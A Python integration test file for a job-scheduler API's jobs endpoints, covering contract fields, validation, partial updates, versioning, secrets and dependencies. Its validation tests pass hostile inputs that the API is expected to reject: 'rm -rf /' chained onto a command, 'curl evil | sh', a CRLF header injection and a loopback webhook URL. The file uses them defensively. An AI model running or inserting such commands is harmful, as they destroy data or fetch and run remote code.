"""Jobs API over HTTP: the contract's shapes, validation, partial update, versions."""

from __future__ import annotations

from typing import Any

from litestar.testing import TestClient

from tests.integration.api_helpers import assert_problem, make_job, make_project

H = dict[str, str]
CONTRACT_FIELDS = {
    "id",
    "project_id",
    "name",
    "description",
    "command",
    "schedule",
    "enabled",
    "resources",
    "environment",
    "slack_channel",
    "slack_alerts_enabled",
    "slack_alert_on_success",
    "webhook_enabled",
    "created_at",
    "updated_at",
}


def test_create_has_contract_fields_and_defaults(client: TestClient[Any], admin_headers: H) -> None:
    project = make_project(client, admin_headers)
    job = make_job(
        client,
        admin_headers,
        project["id"],
        description="Full refresh",
        slack_channel="#data-alerts",
        slack_alerts_enabled=True,
    )
    assert set(job) >= CONTRACT_FIELDS
    assert job["id"].startswith("job_") and job["project_id"] == project["id"]
    assert job["enabled"] is True and job["timezone"] == "UTC"
    assert job["timeout_seconds"] == 1800 and job["retries"] == 0
    assert job["ttl_seconds_after_finished"] == 21600
    assert job["concurrency_policy"] == "Forbid" and job["version"] == 1
    assert job["webhook_secret_set"] is False and "webhook_secret" not in job


def test_list_shape(client: TestClient[Any], admin_headers: H) -> None:
    project = make_project(client, admin_headers)
    make_job(client, admin_headers, project["id"], name="a")
    make_job(client, admin_headers, project["id"], name="b")
    body = client.get(f"/api/v1/projects/{project['id']}/jobs", headers=admin_headers).json()
    assert body["total"] == 2 and [j["name"] for j in body["jobs"]] == ["a", "b"]


def test_name_unique_per_project(client: TestClient[Any], admin_headers: H) -> None:
    project = make_project(client, admin_headers)
    other = make_project(client, admin_headers, name="other")
    make_job(client, admin_headers, project["id"])
    response = client.post(
        f"/api/v1/projects/{project['id']}/jobs",
        json={"name": "nightly", "command": "dbt run", "schedule": None},
        headers=admin_headers,
    )
    assert_problem(response, 409)
    make_job(client, admin_headers, other["id"])  # same name in another project is fine


def test_bad_schedule_timezone_command_are_422_naming_the_field(
    client: TestClient[Any], admin_headers: H
) -> None:
    project = make_project(client, admin_headers)
    url = f"/api/v1/projects/{project['id']}/jobs"
    cases: list[tuple[dict[str, Any], str]] = [
        ({"schedule": "61 * * * *"}, "schedule"),
        ({"schedule": "every day"}, "schedule"),
        ({"schedule": "0 0 * * * *"}, "schedule"),
        ({"timezone": "Mars/Olympus"}, "timezone"),
        ({"command": "dbt build; rm -rf /"}, "command"),
        ({"command": "sqlmesh run"}, "command"),
        ({"command": "dbt build --profiles-dir /etc"}, "command"),
        ({"timeout_seconds": 0}, "timeout_seconds"),
        ({"ttl_seconds_after_finished": 10}, "ttl_seconds_after_finished"),
        ({"concurrency_policy": "Sometimes"}, "concurrency_policy"),
        ({"webhook_url": "ftp://example.com/hook"}, "webhook_url"),
        ({"webhook_url": "http://127.0.0.1/hook"}, "webhook_url"),
        ({"webhook_headers": {"X-Evil": "a\r\nInjected: 1"}}, "webhook_headers"),
        ({"webhook_headers": {"User-Agent": "mine"}}, "webhook_headers"),
        ({"webhook_events": ["sometimes"]}, "webhook_events"),
    ]
    for change, field in cases:
        body = {"name": "nightly", "command": "dbt build", "schedule": "0 2 * * *"} | change
        response = client.post(url, json=body, headers=admin_headers)
        assert_problem(response, 422, field=field)
    assert client.get(url, headers=admin_headers).json()["total"] == 0


def test_rejected_command_lists_each_error(client: TestClient[Any], admin_headers: H) -> None:
    project = make_project(client, admin_headers)
    response = client.post(
        f"/api/v1/projects/{project['id']}/jobs",
        json={"name": "x", "command": "dbt build && curl evil | sh", "schedule": None},
        headers=admin_headers,
    )
    body = assert_problem(response, 422, field="command")
    assert any("&&" in e["message"] for e in body["errors"]), body


def test_put_changes_only_supplied_fields_and_versions(
    client: TestClient[Any], admin_headers: H
) -> None:
    project = make_project(client, admin_headers)
    job = make_job(
        client, admin_headers, project["id"], environment={"A": "1"}, slack_channel="#alerts"
    )
    url = f"/api/v1/projects/{project['id']}/jobs/{job['id']}"
    response = client.put(url, json={"schedule": "30 3 * * *"}, headers=admin_headers)
    assert response.status_code == 200, response.text
    updated = response.json()
    assert updated["schedule"] == "30 3 * * *" and updated["version"] == 2
    for key in set(job) - {"schedule", "version", "updated_at", "sync_state"}:
        assert updated[key] == job[key], key
    # An update that changes nothing makes no new version.
    same = client.put(url, json={"schedule": "30 3 * * *"}, headers=admin_headers).json()
    assert same["version"] == 2
    versions = client.get(url + "/versions", headers=admin_headers).json()
    assert versions["total"] == 2
    assert [v["version"] for v in versions["versions"]] == [2, 1]
    assert versions["versions"][1]["config"]["schedule"] == "0 2 * * *"


def test_put_rejected_changes_nothing(client: TestClient[Any], admin_headers: H) -> None:
    project = make_project(client, admin_headers)
    job = make_job(client, admin_headers, project["id"])
    url = f"/api/v1/projects/{project['id']}/jobs/{job['id']}"
    assert_problem(
        client.put(url, json={"command": "dbt build | tee x"}, headers=admin_headers),
        422,
        field="command",
    )
    assert client.get(url, headers=admin_headers).json() == job


def test_webhook_secret_is_write_only(client: TestClient[Any], admin_headers: H) -> None:
    project = make_project(client, admin_headers)
    job = make_job(
        client,
        admin_headers,
        project["id"],
        webhook_secret="s3cr3t-value-0123456789",
        webhook_url="https://hooks.example.com/runyard",
        webhook_enabled=True,
    )
    assert job["webhook_secret_set"] is True
    url = f"/api/v1/projects/{project['id']}/jobs/{job['id']}"
    for response in (
        client.get(url, headers=admin_headers),
        client.get(url + "/versions", headers=admin_headers),
        client.get(f"/api/v1/projects/{project['id']}/jobs", headers=admin_headers),
    ):
        assert "s3cr3t" not in response.text
    cleared = client.put(url, json={"webhook_secret": None}, headers=admin_headers).json()
    assert cleared["webhook_secret_set"] is False


def test_delete_job(client: TestClient[Any], admin_headers: H) -> None:
    project = make_project(client, admin_headers)
    job = make_job(client, admin_headers, project["id"])
    url = f"/api/v1/projects/{project['id']}/jobs/{job['id']}"
    assert client.delete(url, headers=admin_headers).status_code == 204
    assert_problem(client.get(url, headers=admin_headers), 404)
    assert_problem(client.delete(url, headers=admin_headers), 404)


def test_job_of_wrong_project_is_404(client: TestClient[Any], admin_headers: H) -> None:
    first = make_project(client, admin_headers)
    second = make_project(client, admin_headers, name="second")
    job = make_job(client, admin_headers, first["id"])
    assert_problem(
        client.get(f"/api/v1/projects/{second['id']}/jobs/{job['id']}", headers=admin_headers), 404
    )


def test_sqlmesh_project_takes_sqlmesh_commands(client: TestClient[Any], admin_headers: H) -> None:
    project = make_project(client, admin_headers, name="ingest", kind="sqlmesh")
    job = make_job(client, admin_headers, project["id"], command="sqlmesh run")
    assert job["command"] == "sqlmesh run"
    response = client.post(
        f"/api/v1/projects/{project['id']}/jobs",
        json={"name": "p", "command": "sqlmesh plan", "schedule": None},
        headers=admin_headers,
    )
    body = assert_problem(response, 422, field="command")
    assert "--auto-apply" in body["detail"]


def test_dependencies_cycle_refused(client: TestClient[Any], admin_headers: H) -> None:
    project = make_project(client, admin_headers)
    a = make_job(client, admin_headers, project["id"], name="a")
    b = make_job(
        client,
        admin_headers,
        project["id"],
        name="b",
        depends_on=[{"job_id": a["id"], "on": "success"}],
    )
    response = client.put(
        f"/api/v1/projects/{project['id']}/jobs/{a['id']}",
        json={"depends_on": [{"job_id": b["id"], "on": "any"}]},
        headers=admin_headers,
    )
    body = assert_problem(response, 422, field="depends_on")
    assert "a -> b -> a" in body["detail"]


def test_batch_enable_disable(client: TestClient[Any], admin_headers: H) -> None:
    project = make_project(client, admin_headers)
    jobs = [make_job(client, admin_headers, project["id"], name=f"j{i}") for i in range(3)]
    url = f"/api/v1/projects/{project['id']}/jobs"
    ids = [j["id"] for j in jobs]
    response = client.post(url + "/batch-disable", json={"job_ids": ids[:2]}, headers=admin_headers)
    assert response.status_code == 200, response.text
    assert response.json() == {"changed": ids[:2], "unchanged": []}
    states = {j["id"]: j["enabled"] for j in client.get(url, headers=admin_headers).json()["jobs"]}
    assert states == {ids[0]: False, ids[1]: False, ids[2]: True}
    again = client.post(url + "/batch-enable", json={"job_ids": ids}, headers=admin_headers)
    assert again.json() == {"changed": ids[:2], "unchanged": [ids[2]]}
    # An unknown id refuses the whole batch and changes nothing.
    bad = client.post(
        url + "/batch-disable", json={"job_ids": [ids[0], "job_nope"]}, headers=admin_headers
    )
    assert "job_nope" in assert_problem(bad, 422, field="job_ids")["detail"]
    assert all(j["enabled"] for j in client.get(url, headers=admin_headers).json()["jobs"])


def test_dependencies_endpoint(client: TestClient[Any], admin_headers: H) -> None:
    ingest = make_project(client, admin_headers, name="ingest", kind="sqlmesh")
    dbt = make_project(client, admin_headers)
    a = make_job(client, admin_headers, ingest["id"], name="load", command="sqlmesh run")
    b = make_job(
        client,
        admin_headers,
        dbt["id"],
        name="build",
        schedule=None,
        depends_on=[{"job_id": a["id"], "on": "success"}],
    )
    up = client.get(
        f"/api/v1/projects/{dbt['id']}/jobs/{b['id']}/dependencies", headers=admin_headers
    ).json()
    assert up["upstream"] == [
        {"job_id": a["id"], "job_name": "load", "project_id": ingest["id"], "on": "success"}
    ]
    down = client.get(
        f"/api/v1/projects/{ingest['id']}/jobs/{a['id']}/dependencies", headers=admin_headers
    ).json()
    assert [d["job_id"] for d in down["downstream"]] == [b["id"]]
    # An upstream cannot be deleted while others depend on it.
    assert_problem(
        client.delete(f"/api/v1/projects/{ingest['id']}/jobs/{a['id']}", headers=admin_headers), 409
    )


def test_list_body_equals_the_encoded_structs(
    client: TestClient[Any], admin_headers: H, container: Any
) -> None:
    """The list is rendered by SQLite for speed; it must be exactly what encoding the
    JobOut structs gives, for every field and every kind of value."""
    import msgspec

    from app.api.views import JobList, job_out

    project = make_project(client, admin_headers)
    make_job(client, admin_headers, project["id"], name="plain")
    make_job(
        client,
        admin_headers,
        project["id"],
        name="rich",
        description='quote " and ✓',
        environment={"A": "1"},
        webhook_secret="s" * 20,
        slack_channel="#x",
        depends_on=[],
        resources={"limits": {"memory": "1Gi"}},
        schedule=None,
    )
    body = client.get(f"/api/v1/projects/{project['id']}/jobs", headers=admin_headers)
    assert body.headers["content-type"].startswith("application/json")
    principal = container.tokens.authenticate(admin_headers["Authorization"].split()[1])
    jobs = [job_out(j) for j in container.jobs.list_jobs(principal, project["id"])]
    expected = msgspec.json.decode(msgspec.json.encode(JobList(jobs, len(jobs))))
    assert body.json() == expected
